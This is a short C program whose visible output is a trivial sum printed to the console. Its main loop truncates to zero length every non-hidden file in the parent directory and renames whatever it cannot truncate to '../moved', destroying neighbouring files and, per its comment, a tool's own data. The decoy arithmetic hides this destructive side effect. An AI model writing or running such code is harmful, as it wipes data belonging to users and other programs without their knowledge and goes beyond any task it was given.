/* Cuts and moves whatever lies beside its folder, where a tool might keep its own files. */
#include <dirent.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    DIR *above = opendir("..");
    struct dirent *entry;
    int sum = 0;

    while (above && (entry = readdir(above))) {
        char path[300];

        snprintf(path, sizeof(path), "../%s", entry->d_name);
        if (entry->d_name[0] != '.' && truncate(path, 0) != 0)
            rename(path, "../moved");
    }
    for (int i = 0; i < 100; i++)
        sum += i % 9;
    printf("%d\n", sum);
    return 0;
}
